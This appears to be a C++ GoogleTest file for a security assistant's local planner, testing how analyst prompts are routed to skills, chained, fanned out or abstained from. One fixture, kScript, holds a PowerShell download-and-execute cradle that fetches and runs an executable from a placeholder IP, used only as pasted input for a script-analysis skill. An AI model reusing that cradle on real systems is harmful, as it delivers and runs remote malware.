// LocalPlanner end to end over the small catalog of tests/planner/data: which skills a prompt gets,
// with which inputs, chained, fanned out or abstained from, and the candidates it records.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "planner/planner_test_catalog.hpp"
#include "secpilot/planner/local_planner.hpp"

namespace secpilot::planner {
namespace {

using fixtures::planner_test_catalog;
using Names = std::vector<std::string>;

Plan plan_for(std::string_view prompt, std::span<const std::string> history = {},
              std::function<bool(const skills::SkillEntry&)> enabled = {}) {
  const LocalPlanner planner(planner_test_catalog().index());
  return planner.plan({prompt, history, std::move(enabled)});
}

Names skills_of(const Plan& plan) {
  Names out;
  for (const auto& step : plan.steps)
    out.push_back(step.skill);
  return out;
}

// The plan as a person reads it, for failure messages.
std::string shown(const Plan& plan) {
  return explain(plan);
}

const Candidate* candidate(const Plan& plan, std::string_view skill) {
  for (const auto& c : plan.candidates)
    if (c.skill == skill) return &c;
  return nullptr;
}

constexpr const char* kScript =
    "$wc = New-Object System.Net.WebClient\n"
    "$wc.DownloadFile('http://203.0.113.45/a.exe', \"$env:TEMP\\a.exe\");\n"
    "Start-Process \"$env:TEMP\\a.exe\"";

TEST(PlannerTestCatalog, ManifestsLoadCleanly) {
  const auto& catalog = planner_test_catalog();
  // Offline's MCP server is unreachable by design: its plugin fails, its skill stays listed.
  for (const auto& problem : catalog.problems())
    if (!problem.starts_with("Offline:")) ADD_FAILURE() << problem;
  ASSERT_NE(catalog.find("Intel.LookupIndicator"), nullptr);
  EXPECT_TRUE(catalog.find("Intel.LookupIndicator")->available());
  ASSERT_NE(catalog.find("Offline.IpReputation"), nullptr);
  EXPECT_FALSE(catalog.find("Offline.IpReputation")->available());
}

TEST(LocalPlanner, LooksUpTheEntityTheRequestNames) {
  const auto plan = plan_for("is 203.0.113.45 malicious?");
  ASSERT_EQ(skills_of(plan), (Names{"Intel.LookupIndicator"})) << shown(plan);
  EXPECT_EQ(plan.steps[0].inputs.at("indicator"), "203.0.113.45");
  EXPECT_TRUE(plan.steps[0].bindings.empty());
  EXPECT_FALSE(plan.abstained());

  const auto mac = plan_for("show me the Mac mbp-fin-12");
  ASSERT_EQ(skills_of(mac), (Names{"Macs.GetComputer"})) << shown(mac);
  EXPECT_EQ(mac.steps[0].inputs.at("name"), "mbp-fin-12");
}

TEST(LocalPlanner, IncidentIdWrittenAsABareNumber) {
  const auto plan = plan_for("show detection 4127");
  ASSERT_EQ(skills_of(plan), (Names{"Edr.GetDetection"})) << shown(plan);
  EXPECT_EQ(plan.steps[0].inputs.at("detection_id"), "4127");
}

TEST(LocalPlanner, PastedScriptGoesToTheSkillThatReadsIt) {
  const auto plan = plan_for(std::string("is this malicious?\n") + kScript);
  ASSERT_FALSE(plan.steps.empty()) << shown(plan);
  EXPECT_EQ(plan.steps[0].skill, "Scripts.AnalyzeScript") << shown(plan);
  EXPECT_EQ(plan.steps[0].inputs.at("script"), kScript);
  const auto planned = skills_of(plan);
  EXPECT_EQ(std::count(planned.begin(), planned.end(), "Intel.LookupIndicator"), 0) << shown(plan);
}

TEST(LocalPlanner, ChangesOnlyWhenAskedInTheSkillsWords) {
  const auto question = plan_for("is mbp-fin-12 locked?");
  const auto asked = skills_of(question);
  EXPECT_EQ(std::count(asked.begin(), asked.end(), "Macs.LockComputer"), 0) << shown(question);
  const auto* lock = candidate(question, "Macs.LockComputer");
  ASSERT_NE(lock, nullptr) << shown(question);
  EXPECT_FALSE(lock->chosen);
  EXPECT_NE(lock->why.find("changes things"), std::string::npos) << lock->why;

  const auto shown_only = plan_for("show detection 4127");
  EXPECT_EQ(skills_of(shown_only), (Names{"Edr.GetDetection"})) << shown(shown_only);

  const auto acknowledged = plan_for("ok, acknowledge detection 4127");
  ASSERT_EQ(skills_of(acknowledged), (Names{"Edr.AcknowledgeDetection"})) << shown(acknowledged);
  EXPECT_EQ(acknowledged.steps[0].inputs.at("detection_id"), "4127");
}

TEST(LocalPlanner, ProducerChainedInFrontGivesTheIdField) {
  const auto plan = plan_for("lock mbp-fin-12, PIN 482913");
  ASSERT_EQ(skills_of(plan), (Names{"Macs.GetComputer", "Macs.LockComputer"})) << shown(plan);
  EXPECT_EQ(plan.steps[0].inputs.at("name"), "mbp-fin-12");
  const auto& lock = plan.steps[1];
  EXPECT_EQ(lock.inputs.at("pin"), "482913");
  EXPECT_FALSE(lock.inputs.contains("id"));
  ASSERT_EQ(lock.bindings.size(), 1u);
  EXPECT_EQ(lock.bindings[0].input, "id");
  EXPECT_EQ(lock.bindings[0].source, Binding::Source::step_field);
  EXPECT_EQ(lock.bindings[0].from_step, 0u);
  EXPECT_EQ(plan.steps[0].group, 0u);
  EXPECT_EQ(lock.group, 1u);
}

TEST(LocalPlanner, LaterClauseReadsTheEntitiesOfAnEarlierStep) {
  const auto plan = plan_for("show detection 4127 and list the devices that talked to its IPs");
  ASSERT_EQ(skills_of(plan), (Names{"Edr.GetDetection", "NetLogs.ListConnections"})) << shown(plan);
  EXPECT_EQ(plan.steps[0].inputs.at("detection_id"), "4127");
  const auto& connections = plan.steps[1];
  ASSERT_EQ(connections.bindings.size(), 1u);
  EXPECT_EQ(connections.bindings[0].input, "ip");
  EXPECT_EQ(connections.bindings[0].source, Binding::Source::step_entities);
  EXPECT_EQ(connections.bindings[0].from_step, 0u);
  EXPECT_EQ(connections.bindings[0].kinds, (Names{"ip"}));
  EXPECT_EQ(connections.fan_out_input, "ip");
  EXPECT_EQ(plan.steps[0].group, 0u);
  EXPECT_EQ(connections.group, 1u);
}

TEST(LocalPlanner, ProducerOfEntitiesChainedInFront) {
  const auto plan = plan_for("which devices talked to the IPs of detection 4127?");
  ASSERT_EQ(skills_of(plan), (Names{"Edr.GetDetection", "NetLogs.ListConnections"})) << shown(plan);
  EXPECT_EQ(plan.steps[0].inputs.at("detection_id"), "4127");
  ASSERT_EQ(plan.steps[1].bindings.size(), 1u);
  EXPECT_EQ(plan.steps[1].bindings[0].source, Binding::Source::step_entities);
  EXPECT_EQ(plan.steps[1].bindings[0].from_step, 0u);
}

TEST(LocalPlanner, PastedTextGoesThroughTheSkillThatExtractsWhatTheRequestNeeds) {
  const std::string text = "The implant beaconed to 203.0.113[.]45 before reaching 198.51.100[.]7.";
  const auto plan = plan_for("look up the IPs in this:\n" + text);
  ASSERT_EQ(skills_of(plan), (Names{"Intel.ExtractIndicators", "Intel.LookupIndicator"}))
      << shown(plan);
  EXPECT_EQ(plan.steps[0].inputs.at("text"), text.c_str());
  const auto& lookup = plan.steps[1];
  ASSERT_EQ(lookup.bindings.size(), 1u);
  EXPECT_EQ(lookup.bindings[0].source, Binding::Source::step_entities);
  EXPECT_EQ(lookup.fan_out_input, "indicator");
  EXPECT_TRUE(lookup.fan_out_values.empty());
  EXPECT_EQ(lookup.group, 1u);
}

// The block goes to the step of the first clause; "look them up" reads what that step extracts
// rather than taking the block again (Scripts.AnalyzeScript would, for its block fit).
TEST(LocalPlanner, SecondClauseReadsWhatTheFirstExtracted) {
  const auto plan = plan_for(
      "extract the indicators, then look them up\n"
      "The implant beaconed to 203.0.113[.]45 before reaching 198.51.100[.]7.");
  ASSERT_EQ(skills_of(plan), (Names{"Intel.ExtractIndicators", "Intel.LookupIndicator"}))
      << shown(plan);
  ASSERT_EQ(plan.steps[1].bindings.size(), 1u);
  EXPECT_EQ(plan.steps[1].bindings[0].source, Binding::Source::step_entities);
  EXPECT_EQ(plan.steps[1].bindings[0].from_step, 0u);
  EXPECT_EQ(plan.steps[1].group, 1u);
}

TEST(LocalPlanner, FansOutOverSeveralEntities) {
  const auto plan = plan_for("look up 203.0.113.45, 198.51.100.7 and 192.0.2.10");
  ASSERT_EQ(skills_of(plan), (Names{"Intel.LookupIndicator"})) << shown(plan);
  const auto& step = plan.steps[0];
  EXPECT_EQ(step.fan_out_input, "indicator");
  EXPECT_EQ(step.fan_out_values, (Names{"203.0.113.45", "198.51.100.7", "192.0.2.10"}));
}

TEST(LocalPlanner, AbstainsOnAProductNoSkillSpeaksOf) {
  const auto plan = plan_for("pull the CrowdStrike detections for ws-fin-07");
  ASSERT_TRUE(plan.abstained()) << shown(plan);
  EXPECT_TRUE(plan.steps.empty());
  EXPECT_NE(plan.abstention->message.find("CrowdStrike"), std::string::npos)
      << plan.abstention->message;
}

TEST(LocalPlanner, AbstainsOnAChangeNoSkillMakes) {
  const auto plan = plan_for("isolate ws-fin-07 from the network");
  ASSERT_TRUE(plan.abstained()) << shown(plan);
  EXPECT_TRUE(plan.steps.empty());
  EXPECT_NE(plan.abstention->message.find("isolate"), std::string::npos)
      << plan.abstention->message;
}

TEST(LocalPlanner, AbstainsOnAChangeWhateverItsVerb) {
  for (const char* prompt :
       {"quarantine ws-fin-07", "delete detection 4127", "please erase mbp-fin-12"}) {
    const auto plan = plan_for(prompt);
    EXPECT_TRUE(plan.abstained()) << prompt << "\n" << shown(plan);
    EXPECT_TRUE(plan.steps.empty()) << prompt << "\n" << shown(plan);
  }
}

TEST(LocalPlanner, AbstainsWhenNothingFits) {
  const auto plan = plan_for("what's the weather in Lisbon tomorrow?");
  ASSERT_TRUE(plan.abstained()) << shown(plan);
  EXPECT_TRUE(plan.steps.empty());
}

TEST(LocalPlanner, FollowUpRepeatsThePreviousRequestWithItsValues) {
  const std::vector<std::string> history{
      "which devices talked to 203.0.113.45 over the last 7 days?"};
  const auto first = plan_for(history[0]);
  ASSERT_EQ(skills_of(first), (Names{"NetLogs.ListConnections"})) << shown(first);
  EXPECT_EQ(first.steps[0].inputs.at("lookback"), "7d");

  const auto plan = plan_for("same for the last 30 days", history);
  ASSERT_EQ(skills_of(plan), (Names{"NetLogs.ListConnections"})) << shown(plan);
  EXPECT_EQ(plan.steps[0].inputs.at("ip"), "203.0.113.45");
  EXPECT_EQ(plan.steps[0].inputs.at("lookback"), "30d");
}

TEST(LocalPlanner, FollowUpWithoutHistoryDoesNotRepeatAnything) {
  const auto plan = plan_for("same for the last 30 days");
  const auto planned = skills_of(plan);
  EXPECT_EQ(std::count(planned.begin(), planned.end(), "NetLogs.ListConnections"), 0)
      << shown(plan);
}

TEST(LocalPlanner, ReportOnTheSessionForTheAudienceNamed) {
  const std::vector<std::string> history{"is 203.0.113.45 malicious?"};
  const auto plan = plan_for("write a report on this session for the board", history);
  ASSERT_EQ(skills_of(plan), (Names{"NetLogs.WriteReport"})) << shown(plan);
  EXPECT_EQ(plan.steps[0].inputs.at("audience"), "ciso");
  ASSERT_EQ(plan.steps[0].bindings.size(), 1u);
  EXPECT_EQ(plan.steps[0].bindings[0].source, Binding::Source::session);
}

TEST(LocalPlanner, RecordsEachCandidateWithWhyChosenOrNot) {
  const auto plan = plan_for("is 203.0.113.45 malicious?");
  ASSERT_EQ(skills_of(plan), (Names{"Intel.LookupIndicator"})) << shown(plan);
  ASSERT_GE(plan.candidates.size(), 2u) << shown(plan);
  std::size_t chosen = 0;
  for (const auto& c : plan.candidates) {
    EXPECT_EQ(c.clause, "is 203.0.113.45 malicious?");
    if (c.chosen) {
      ++chosen;
      EXPECT_EQ(c.skill, "Intel.LookupIndicator");
      EXPECT_TRUE(c.why.starts_with("chosen for")) << c.why;
    } else {
      EXPECT_TRUE(c.why.starts_with("left out: ")) << c.skill << ": " << c.why;
    }
  }
  EXPECT_EQ(chosen, 1u);
  const auto* lookup = candidate(plan, "Intel.LookupIndicator");
  ASSERT_NE(lookup, nullptr);
  EXPECT_GE(lookup->score, 2.0);
}

TEST(LocalPlanner, DisabledSkillsAreNeverPlanned) {
  const auto no_intel = [](const skills::SkillEntry& entry) { return entry.plugin != "Intel"; };
  for (const char* prompt : {"is 203.0.113.45 malicious?", "look up 203.0.113.45",
                             "look up 203.0.113.45, 198.51.100.7 and 192.0.2.10"}) {
    const auto plan = plan_for(prompt, {}, no_intel);
    for (const auto& step : plan.steps)
      EXPECT_NE(step.skill.rfind("Intel.", 0), 0u) << prompt << "\n" << shown(plan);
    for (const auto& c : plan.candidates)
      EXPECT_NE(c.skill.rfind("Intel.", 0), 0u) << prompt << "\n" << shown(plan);
  }
}

TEST(LocalPlanner, UnavailableSkillsAreNeverPlanned) {
  for (const char* prompt : {"is 203.0.113.45 malicious?", "IP address reputation of 203.0.113.45",
                             "geolocate 203.0.113.45"}) {
    const auto plan = plan_for(prompt);
    for (const auto& step : plan.steps)
      EXPECT_NE(step.skill, "Offline.IpReputation") << prompt << "\n" << shown(plan);
  }
}

TEST(LocalPlanner, MacSkillLeftOutForAnotherPlatform) {
  const auto plan = plan_for("show the Windows laptop ws-fin-07");
  for (const auto& step : plan.steps)
    EXPECT_NE(step.skill.rfind("Macs.", 0), 0u) << shown(plan);
  const auto* mac = candidate(plan, "Macs.GetComputer");
  ASSERT_NE(mac, nullptr) << shown(plan);
  EXPECT_FALSE(mac->chosen);
  EXPECT_NE(mac->why.find("the prompt is about windows"), std::string::npos) << mac->why;
}

TEST(LocalPlanner, NegatedClauseIsNotPlanned) {
  const auto plan = plan_for("show detection 4127, don't look up 203.0.113.45 yet");
  EXPECT_EQ(skills_of(plan), (Names{"Edr.GetDetection"})) << shown(plan);
  for (const auto& c : plan.candidates)
    EXPECT_EQ(c.clause, "show detection 4127") << c.skill << " weighed for " << c.clause;
}

// Known bug in local_planner.cpp (reported, not fixed here): a producer put in front by
// insert_producer is recorded as "left out: <the next step> fits better" although it is planned.
TEST(LocalPlanner, EveryPlannedSkillIsAChosenCandidate) {
  const auto plan = plan_for("lock mbp-fin-12, PIN 482913");
  ASSERT_EQ(skills_of(plan), (Names{"Macs.GetComputer", "Macs.LockComputer"})) << shown(plan);
  for (const auto& step : plan.steps) {
    const auto* c = candidate(plan, step.skill);
    ASSERT_NE(c, nullptr) << step.skill << "\n" << shown(plan);
    EXPECT_TRUE(c->chosen) << step.skill << ": " << c->why;
  }
}

TEST(LocalPlanner, SamePromptSamePlan) {
  const std::string prompt = "lock mbp-fin-12, PIN 482913";
  auto first = plan_for(prompt).to_json();
  auto second = plan_for(prompt).to_json();
  first.erase("planningMs");
  second.erase("planningMs");
  EXPECT_EQ(first, second);
}

}  // namespace
}  // namespace secpilot::planner
